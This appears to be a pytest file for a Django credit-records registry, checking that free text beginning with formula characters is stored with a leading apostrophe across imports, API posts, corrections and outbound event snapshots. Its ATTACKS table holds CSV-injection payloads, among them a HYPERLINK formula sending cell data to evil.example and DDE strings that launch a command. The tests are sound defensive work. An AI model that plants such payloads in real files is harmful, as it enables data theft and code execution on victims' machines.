"""Text a spreadsheet would run as a formula never reaches the registry as one: a record's free
text (subject name, decision number, title, content) beginning with `=`, `+`, `-`, `@`, a tab or
a carriage return is kept with a leading apostrophe (core/spreadsheets.py), whether it comes in
a CSV or XLSX import, through `POST /api/v1/records/` or in a correction; so what is shown and
what is sent to other platforms (the record's event) is safe too. Numbers are not text."""

import io

import pytest
from openpyxl import Workbook

from repairflow.core.spreadsheets import formula_safe
from repairflow.records.corrections import record_correction_validate
from repairflow.records.models import CreditRecord, CreditSubject, RecordEvent, Subscription
from tests.factories import CreditRecordFactory, record_entry
from tests.records.test_import import HEADER, cells, csv_bytes, post, xlsx_bytes

ATTACKS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def xlsx_text(*lines: list) -> bytes:
    """A workbook whose cells are all text, as a department's sheet holds `=...` typed as text
    (openpyxl would otherwise write text beginning with `=` as a formula)."""
    workbook = Workbook()
    sheet = workbook.active
    for line in (HEADER, *lines):
        sheet.append(line)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def kept(text: str) -> str:
    """What the registry keeps of `text`: trimmed (a tab or carriage return goes), then quoted."""
    return "'" + text.strip()


pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("build", [csv_bytes, xlsx_text])
@pytest.mark.parametrize("prefix", list(ATTACKS))
def test_an_imported_title_beginning_with_a_formula_prefix_is_kept_quoted(api, officer_scj, build, prefix):
    text = ATTACKS[prefix]

    response = post(api, officer_scj, build(cells(title=text, content=text)), name="records.bin")

    assert response.status_code == 201
    assert response.json()["created"] == 1
    record = CreditRecord.objects.get()
    assert (record.title, record.content) == (kept(text), kept(text))
    assert not record.title.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_subject_name_and_decision_number_are_quoted_too(api, officer_scj):
    content = csv_bytes(cells(subject_name="=济南公司", decision_no="@罚1号"))

    assert post(api, officer_scj, content).status_code == 201

    record = CreditRecord.objects.select_related("subject").get()
    assert (record.subject.name, record.decision_no) == ("'=济南公司", "'@罚1号")
    assert CreditSubject.objects.get().name == "'=济南公司"


def test_negative_numbers_are_numbers_not_formulas(api, officer_scj):
    content = xlsx_bytes(cells(decision_no=-5, title="-12.5", content="罚款 -500 元"))

    assert post(api, officer_scj, content, name="records.xlsx").status_code == 201

    record = CreditRecord.objects.get()
    assert (record.decision_no, record.title, record.content) == ("-5", "-12.5", "罚款 -500 元")


def test_a_file_imported_again_with_the_same_formula_changes_nothing(api, officer_scj):
    content = csv_bytes(cells(title="=1+1"))

    post(api, officer_scj, content)
    again = post(api, officer_scj, content)

    assert (again.json()["created"], again.json()["updated"], again.json()["unchanged"]) == (0, 0, 1)


def test_what_is_sent_to_other_platforms_is_quoted(api, officer_scj):
    Subscription.objects.create(name="省信用平台", url="https://platform.example/hook", secret="s" * 32, events=[])

    assert post(api, officer_scj, csv_bytes(cells(title="=1+1", content="+cmd"))).status_code == 201

    snapshot = RecordEvent.objects.get().snapshot
    assert (snapshot["title"], snapshot["content"]) == ("'=1+1", "'+cmd")


def test_a_record_created_through_the_api_is_quoted(api, officer_scj):
    response = api.as_user(officer_scj).post(
        "/api/v1/records/", record_entry(title="=1+1", content="-cmd", decision_no="+1号"), format="json"
    )

    assert response.status_code == 201
    assert (response.json()["title"], response.json()["content"], response.json()["decision_no"]) == (
        "'=1+1",
        "'-cmd",
        "'+1号",
    )


def test_a_correction_is_quoted(scj):
    record = CreditRecordFactory(department=scj, decision_no="济市监罚〔2026〕1号")

    changes = record_correction_validate(record, {"title": "@SUM(1)", "content": "\t=1", "decision_no": -7})

    assert changes == {"title": "'@SUM(1)", "content": "'=1", "decision_no": "-7"}


def test_the_rule_is_the_one_of_core():
    assert all(formula_safe(text) == "'" + text for text in ATTACKS.values())
